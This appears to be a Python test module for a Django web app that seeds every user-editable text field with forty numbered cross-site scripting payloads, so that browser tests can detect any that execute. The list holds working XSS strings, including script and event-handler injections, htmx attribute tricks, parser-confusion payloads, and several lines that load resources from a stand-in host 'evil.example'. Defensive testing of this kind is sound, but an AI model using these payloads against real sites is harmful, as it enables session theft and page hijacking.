"""Forty payloads, and a world with them in every text people write: `python -m tests.browser.xss_world` lays it.

Each text carries a number of its own: two digits for the kind of text and two for the payload. So a page can tell which
of them it showed, and a payload that runs can tell where it came from.
"""

import json
import re

# {n} is the number. `pwn` counts itself where a test listens.
PAYLOADS = (
    "<script>pwn({n})</script>",
    "<img src=x onerror=pwn({n})>",
    "<svg onload=pwn({n})>",
    "<svg><script>pwn({n})</script></svg>",
    '"><img src=x onerror=pwn({n})>',
    "'><img src=x onerror=pwn({n})>",
    '" onfocus="pwn({n})" autofocus x="',
    "' onfocus='pwn({n})' autofocus x='",
    "` onmouseover=pwn({n}) style=position:fixed;inset:0 `",
    '<a href="javascript:pwn({n})">x</a>',
    "javascript:pwn({n})//",
    "data:text/html,<script>parent.pwn({n})</script>",
    '<b hx-on::load="pwn({n})" hx-trigger=load hx-get=/>',
    '<b data-hx-on:htmx:load="pwn({n})">x</b>',
    "<b data-hx-get=/?pwn{n} data-hx-trigger=load>x</b>",
    '<b data-hx-vals="js:{{a:pwn({n})}}" hx-post=/ hx-trigger=load>',
    "{{{{7*7}}}}{{% debug %}}${{7*7}}<%=7*7%>pwn({n})",
    "\\u003cimg src=x onerror=pwn({n})\\u003e",
    "&lt;img src=x onerror=pwn({n})&gt;",
    "%3Cimg src=x onerror=pwn({n})%3E",
    "＜script＞pwn({n})＜/script＞",
    "[x](javascript:pwn({n})) ![x](x)",
    "<style>*{{background:url(//evil.example/pwn{n})}}</style>",
    "<p style=background:url(//evil.example/pwn{n})>x</p>",
    '<meta http-equiv=refresh content="0;url=//evil.example/pwn{n}">',
    "<base href=//evil.example/pwn{n}/>",
    "\u202e<script>pwn({n})</script>\u202c",
    "</textarea><script>pwn({n})</script>",
    "</title><script>pwn({n})</script>",
    "</script><script>pwn({n})</script>",
    "</template></style><svg onload=pwn({n})>",
    '"}}]}}</script><script>pwn({n})</script>',
    '<noscript><p title="</noscript><img src=x onerror=pwn({n})>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn({n})>",
    "<!--><img src=x onerror=pwn({n})>-->",
    '<iframe srcdoc="<script>parent.pwn({n})</script>"></iframe>',
    "<iframe src=//evil.example/pwn{n}></iframe>",
    "<form action=//evil.example/pwn{n}><input autofocus onfocus=pwn({n})>",
    "<details open ontoggle=pwn({n})>x</details>",
    "<img src=x onerror=pwn({n}) alt=" + "A" * 90 + ">",
)
NUMBER = re.compile(r"pwn\W{0,2}(\d{4})")
# What no text may hold; it is sent and must be refused.
NULL = "<scr\x00ipt>pwn(9999)</scr\x00ipt>"

# Every kind of text a person can write: its number and how much there is room for.
KINDS = {
    "goals": (10, 600), "status-home": (11, 600), "status-team": (12, 600), "safety": (13, 300), "words": (14, 600),
    "told": (15, 600), "history": (16, 600), "reason": (17, 300), "other": (18, 120), "close": (19, 300),
    "dispute": (20, 250), "review": (21, 300), "sign": (22, 300), "what": (23, 200), "with": (24, 80),
    "why": (25, 200), "tells": (26, 200), "topic": (27, 200), "resident-topic": (28, 200), "visit": (29, 200),
    "place": (30, 60), "covers": (31, 200), "basis-reason": (32, 200), "draft": (33, 600), "name": (34, 60),
    "flat": (35, 12), "person": (36, 40), "title": (37, 40), "team-person": (38, 40), "guest": (39, 60),
    "cancel": (40, 200), "move": (41, 200), "extra": (42, 200), "gap": (43, 200), "correction": (44, 200),
    "home": (45, 60), "team": (46, 60), "organisation": (47, 80), "out-of-hours": (48, 120), "duty-title": (49, 40),
    "criterion": (50, 100), "definition": (51, 300), "exit": (52, 200), "own-criterion": (53, 100),
    "own-definition": (54, 300), "rejected": (55, 300), "screen": (56, 40), "settings": (57, 20),
    "past-what": (58, 200), "undone": (59, 600), "need": (60, 200),
}  # fmt: skip
# Written while the pages are open, and sent in forms that are refused.
LIVE = {"live-status": (70, 600), "live-what": (71, 200), "live-sign": (72, 300), "live-topic": (73, 200)}
TYPED = {"mine": (80, 600), "refused": (81, 600), "sought": (82, 60)}
ALL = {**KINDS, **LIVE, **TYPED}
COUNT = len(PAYLOADS)


def payload(kind: str, place: int) -> str:
    """The payload with its number, cut where there is no more room; what is left is hostile still."""
    code, limit = ALL[kind]
    number = f"{code}{place:02}"
    text = PAYLOADS[place].format(n=number)
    if len(text) <= limit:
        return text
    found = NUMBER.search(text)
    assert found is not None
    return text[:limit] if found.end() <= limit else f'"><u>pwn{number}'[:limit]


def packed(kind: str) -> list[str]:
    """All payloads of the kind in as few texts as there is room for."""
    texts = [""]
    for place in range(COUNT):
        one = payload(kind, place)
        if len(texts[-1]) + len(one) < ALL[kind][1]:
            texts[-1] = f"{texts[-1]} {one}".strip()
        else:
            texts.append(one)
    return texts


def numbers(kind: str) -> set[str]:
    return {f"{ALL[kind][0]}{place:02}" for place in range(COUNT)}


if __name__ == "__main__":
    import django

    django.setup()
    from tests.browser.xss_lay import lay

    print(json.dumps(lay()))  # noqa: T201
